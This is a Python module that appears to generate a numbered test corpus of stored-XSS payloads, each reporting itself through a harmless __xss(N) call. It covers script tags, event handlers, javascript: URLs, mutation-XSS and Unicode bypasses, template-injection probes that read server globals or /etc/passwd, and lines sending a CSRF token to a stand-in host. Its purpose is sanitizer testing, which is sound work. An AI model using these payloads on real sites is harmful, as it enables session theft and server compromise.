"""Stored-XSS payloads built from vectors, sinks and breakouts, each one numbered and able to report itself.

Every payload starts with its marker, ``XSS`` and three digits, as plain text: a page that shows the payload
escaped shows the marker, so a test can tell "shown and inert" from "not shown at all". Every payload, if the
browser ran any of it, calls ``__xss(N)`` (or ``__XSS(N)`` when a field upper-cases its text, or ``alert(N)``)
with its own number, so an execution names the payload that got through.
"""
from dataclasses import dataclass

MARKER = "XSS{:03d}"
MARKER_PATTERN = r"XSS(\d{3})(?!\d)"


@dataclass(frozen=True)
class Payload:
    number: int
    family: str
    text: str  # the marker followed by the hostile markup

    @property
    def marker(self) -> str:
        return MARKER.format(self.number)


# Code a vector runs; {n} is the payload's number.
CALLS = ("__xss({n})", "window.__xss&&__xss({n})", "alert({n})", "top['__x'+'ss']({n})", "(__xss)({n})")

# Markup that runs code on its own: {js} is one of CALLS.
ELEMENTS = (
    "<script>{js}</script>",
    "<ScRiPt>{js}</sCrIpT>",
    "<script src=data:,{js}></script>",
    "<script/x>{js}</script>",
    "<script\n>{js}</script\n>",
    "<img src=x onerror={js}>",
    "<img src=x onerror=\"{js}\">",
    "<img/src=x/onerror={js}>",
    "<IMG SRC=x ONERROR={js}>",
    "<img src onerror='{js}'>",
    "<image src=x onerror={js}>",
    "<svg onload={js}>",
    "<svg/onload={js}>",
    "<svg><script>{js}</script></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<svg><set onbegin={js} attributeName=x to=1>",
    "<svg><image href=x onerror={js}>",
    "<svg><foreignObject><img src=x onerror={js}>",
    "<body onload={js}>",
    "<body onpageshow={js}>",
    "<input autofocus onfocus={js}>",
    "<select autofocus onfocus={js}>",
    "<textarea autofocus onfocus={js}>",
    "<details open ontoggle={js}>",
    "<div onmouseover={js}>hover</div>",
    "<div tabindex=1 autofocus onfocusin={js}>",
    "<video src=x onerror={js}>",
    "<audio src=x onerror={js}>",
    "<video><source onerror={js}>",
    "<iframe onload={js}>",
    "<object data=x onerror={js}>",
    "<marquee onstart={js}>",
    "<style onload={js}></style>",
    "<link rel=stylesheet href=x onerror={js}>",
    "<input type=image src=x onerror={js}>",
    "<form><button formaction=javascript:{js}>go",
    "<isindex action=javascript:{js} type=image>",
    "<keygen autofocus onfocus={js}>",
    "<a id=x tabindex=1 onfocus={js} autofocus>",
    "<xss onanimationstart={js} style=animation-name:x>",
)

# Places a URL goes: {url} is one of URLS.
SINKS = (
    "<a href=\"{url}\">click</a>",
    "<a href='{url}'>click</a>",
    "<iframe src=\"{url}\"></iframe>",
    "<embed src=\"{url}\">",
    "<object data=\"{url}\"></object>",
    "<form action=\"{url}\"><button>go</button></form>",
    "<svg><a xlink:href=\"{url}\"><text>x</text></a></svg>",
    "<math><a href=\"{url}\">x</a></math>",
    "<meta http-equiv=refresh content=\"0;url={url}\">",
    "<base href=\"{url}\"><a href=x>x</a>",
)

# Script URLs, spelled the ways parsers have been fooled with.
URLS = (
    "javascript:__xss({n})",
    "JaVaScRiPt:__xss({n})",
    "java\tscript:__xss({n})",
    "java\nscript:__xss({n})",
    "java\rscript:__xss({n})",
    " \x01javascript:__xss({n})",
    "&#106;avascript:__xss({n})",
    "&#x6A;&#x61;vascript:__xss({n})",
    "javascript&colon;__xss({n})",
    "javas&#99;ript:__xss({n})",
    "jav&#x09;ascript:__xss({n})",
    "data:text/html,<script>__xss({n})</script>",
    "data:text/html;base64,PHNjcmlwdD5fX3hzcygxKTwvc2NyaXB0Pg==#{n}",
    "vbscript:msgbox({n})",
    "javascript://%0a__xss({n})",
)

# Ways out of the context the field might be printed in, put before a vector.
BREAKOUTS = (
    "\">", "'>", "\"/>", "`>", "\" onfocus=__xss({n}) autofocus x=\"", "' onmouseover=__xss({n}) x='",
    "` onload=__xss({n}) `", "</title>", "</textarea>", "</script>", "</style>", "-->", "]]>", "</noscript>",
    "</option></select>", "\"></a>", "';", "\\\";",
)
BREAKOUT_VECTORS = ("<img src=x onerror=__xss({n})>", "<svg onload=__xss({n})>", "<script>__xss({n})</script>")

# Shapes that parse differently once re-serialised (mutation XSS).
MUTATIONS = (
    "<math><mtext><table><mglyph><style><img src=x onerror=__xss({n})>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--></mglyph><img src=1 onerror=__xss({n})>\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=__xss({n})>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=__xss({n})>\">",
    "<noembed><img title=\"</noembed><img src=x onerror=__xss({n})>\">",
    "<noframes><img title=\"</noframes><img src=x onerror=__xss({n})>\">",
    "<style><img title=\"</style><img src=x onerror=__xss({n})>\">",
    "<textarea><img title=\"</textarea><img src=x onerror=__xss({n})>\">",
    "<title><img title=\"</title><img src=x onerror=__xss({n})>\">",
    "<xmp><img title=\"</xmp><img src=x onerror=__xss({n})>\">",
    "<iframe srcdoc=\"<script>parent.__xss({n})</script>\">",
    "<iframe srcdoc=\"&lt;img src=x onerror=parent.__xss({n})&gt;\">",
    "<!--><img src=x onerror=__xss({n})>-->",
    "<!--a--!><img src=x onerror=__xss({n})>",
    "<!-- --!><img src=x onerror=__xss({n})>-->",
    "<![CDATA[><img src=x onerror=__xss({n})>]]>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=__xss({n}) src>\">",
    "<math><mi><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror=__xss({n}) src=1>\">",
    "<svg><style><img src=x onerror=__xss({n})></style></svg>",
    "<math><style><img src=x onerror=__xss({n})></style></math>",
    "<template><img src=x onerror=__xss({n})></template>",
    "<select><template><img src=x onerror=__xss({n})></template></select>",
    "<table><td><svg><foreignObject><img src=x onerror=__xss({n})>",
    "<a href=\"&#x6a;avascript:__xss({n})\">a</a><a href=x title=\"&quot;&gt;&lt;img src=x onerror=__xss({n})&gt;\">",
    "<div id=\"x\"><![CDATA[</div><img src=x onerror=__xss({n})>]]>",
    "<plaintext><img src=x onerror=__xss({n})>",
    "<scr<script>ipt>__xss({n})</scr</script>ipt>",
    "<<img src=x onerror=__xss({n})>",
    "<img src=\"x` `<script>__xss({n})</script>\"` `>",
    "<svg><![CDATA[><image xlink:href=\"]]><img src=x onerror=__xss({n})>\"></svg>",
)

# Template languages: a server or a client framework that evaluates the text would run the call.
TEMPLATES = (
    "{{{{7*7}}}}{{{{__xss({n})}}}}",
    "{{{{constructor.constructor('__xss({n})')()}}}}",
    "{{{{$on.constructor('__xss({n})')()}}}}",
    "{{{{_c.constructor('__xss({n})')()}}}}",
    "{{{{ config.items() }}}}{{{{ request.application.__globals__ }}}}",
    "{{{{ ''.__class__.__mro__[1].__subclasses__() }}}}",
    "{{% for x in range(1) %}}{{{{x}}}}{{% endfor %}}{{% raw %}}<script>__xss({n})</script>",
    "{{% include '/etc/passwd' %}}<img src=x onerror=__xss({n})>",
    "${{__xss({n})}}",
    "${{7*7}}<img src=x onerror=__xss({n})>",
    "#{{__xss({n})}}",
    "<%= __xss({n}) %>",
    "[[__xss({n})]]",
    "<div ng-app ng-csp>{{{{$eval.constructor('__xss({n})')()}}}}</div>",
    "<div v-html=\"'<img src=x onerror=__xss({n})>'\"></div>",
    "<div x-data x-init=\"__xss({n})\"></div>",
    "<div data-bind=\"html: '<img src=x onerror=__xss({n})>'\"></div>",
    "{{{{#with \"s\" as |x|}}}}{{{{x.constructor '__xss({n})'}}}}{{{{/with}}}}",
    "@{{__xss({n})}}",
    "{{{{ self.__init__.__globals__ }}}}<svg onload=__xss({n})>",
)

# Unicode that hides or reorders text: right-to-left override, zero-width characters, look-alikes.
UNICODE = (
    "\u202e<img src=x onerror=__xss({n})>",
    "<img src=x onerror=__xss({n})>\u202egpj.exe",
    "\u202e>tpircs/<)({n}ssx__>tpircs<",
    "<scr\u200bipt>__xss({n})</scr\u200bipt>",
    "<img src=x one\u200brror=__xss({n})>",
    "\ufeff<script>__xss({n})</script>",
    "<img\ufeffsrc=x onerror=__xss({n})>",
    "<img src=x\u00a0onerror=__xss({n})>",
    "<img src=x\u2028onerror=__xss({n})>",
    "\uff1cscript\uff1e__xss({n})\uff1c/script\uff1e",
    "<a href=\"java\u200bscript:__xss({n})\">x</a>",
    "<a href=\"\ufeffjavascript:__xss({n})\">x</a>",
    "\u200d\u200c<svg onload=__xss({n})>",
    "<img src=x onerror=\u0061lert({n})>",
    "<img src=x onerror=\\u005f_xss({n})>",
    "\u2066<script>__xss({n})</script>\u2069",
    "%00<script>__xss({n})</script>",
    "<scr%00ipt>__xss({n})</script>",
    "\u180e<img src=x onerror=__xss({n})>",
    "<svg\u000conload=__xss({n})>",
)

# Style sheets: expressions, script URLs in url(), imports, and styles that load markup.
STYLES = (
    "<div style=\"width:expression(__xss({n}))\">x</div>",
    "<div style=\"background:url(javascript:__xss({n}))\">x</div>",
    "<div style=\"background-image:url('javascript:__xss({n})')\">x</div>",
    "<div style=\"behavior:url(x.htc);-moz-binding:url(x.xml#{n})\">x</div>",
    "<style>@import 'javascript:__xss({n})';</style>",
    "<style>@import url(data:text/css,*{{x:expression(__xss({n}))}});</style>",
    "<style>*{{background:url(\"javascript:__xss({n})\")}}</style>",
    "<link rel=stylesheet href=\"javascript:__xss({n})\">",
    "<link rel=import href=\"data:text/html,<script>__xss({n})</script>\">",
    "<link rel=preload as=script href=\"data:,__xss({n})\" onload=__xss({n})>",
    "<p style=\"x:e\\xpression(__xss({n}))\">x</p>",
    "<p style=\"x:\\65xpression(__xss({n}))\">x</p>",
    "<span style=\"font-family:'</style><script>__xss({n})</script>'\">x</span>",
    "<div style=\"position:fixed;inset:0\" onmouseover=__xss({n})>x</div>",
    "<svg><style>@import url(javascript:__xss({n}))</style></svg>",
)

# Elements that change the page around them rather than run code in it.
DOCUMENT = (
    "<meta http-equiv=refresh content=\"0;url=javascript:__xss({n})\">",
    "<meta http-equiv=\"Content-Security-Policy\" content=\"script-src *\"><script>__xss({n})</script>",
    "<meta charset=\"x-imap4-modified-utf7\">+ADw-script+AD4-__xss({n})+ADw-/script+AD4-",
    "<base href=\"javascript:__xss({n})//\">",
    "<base target=\"_blank\" href=\"//evil.test/{n}/\">",
    "<iframe src=\"//evil.test/{n}\" name=x></iframe>",
    "<iframe src=\"data:text/html,<script>parent.__xss({n})</script>\"></iframe>",
    "<object type=\"text/html\" data=\"data:text/html,<script>__xss({n})</script>\"></object>",
    "<embed type=\"image/svg+xml\" src=\"data:image/svg+xml,<svg onload='__xss({n})'/>\">",
    "<form id=f{n} action=//evil.test><input name=csrf_token></form><button form=f{n}>x</button>",
    "<img src=\"//evil.test/{n}?c=\" name=x>",
    "<input name=\"csrf_token\" value=\"stolen{n}\" form=x>",
    "<a href=\"//evil.test/{n}\" target=_blank rel=opener>x</a>",
    "<portal src=\"data:text/html,<script>__xss({n})</script>\"></portal>",
    "<applet code=\"javascript:__xss({n})\"></applet>",
)

# JavaScript and JSON contexts: text a page might put inside a script or a data attribute.
SCRIPT_CONTEXT = (
    "</script><script>__xss({n})</script>",
    "\";__xss({n});//",
    "';__xss({n});//",
    "\\';__xss({n});//",
    "`;__xss({n});//`",
    "${{__xss({n})}}`",
    "\"}}]]};__xss({n});//",
    "<!--<script>__xss({n})</script>-->",
    "-->;__xss({n});<!--",
    "\u2028__xss({n})\u2029",
)


def _expand():
    """Yield (family, template) pairs, each a distinct shape."""
    for index, element in enumerate(ELEMENTS):
        for call in CALLS[:3] if index < 20 else CALLS[:2]:
            yield "element", element.replace("{js}", call)
    for sink in SINKS:
        for url in URLS:
            if sink.startswith("<meta") and url.startswith("data:text/html;base64"):
                continue
            yield "url", sink.replace("{url}", url)
    for breakout in BREAKOUTS:
        for vector in BREAKOUT_VECTORS:
            yield "breakout", breakout + vector
    for family, shapes in (("mxss", MUTATIONS), ("template", TEMPLATES), ("unicode", UNICODE),
                           ("css", STYLES), ("document", DOCUMENT), ("script-context", SCRIPT_CONTEXT)):
        for shape in shapes:
            yield family, shape


def build_corpus() -> list[Payload]:
    """Number the shapes in a stable order and put each one's marker and number in."""
    corpus, seen = [], set()
    for family, shape in _expand():
        number = len(corpus) + 1
        text = shape.replace("{n}", str(number)).replace("{{", "{").replace("}}", "}")
        if shape in seen:
            continue
        seen.add(shape)
        corpus.append(Payload(number, family, MARKER.format(number) + text))
    return corpus


CORPUS = build_corpus()
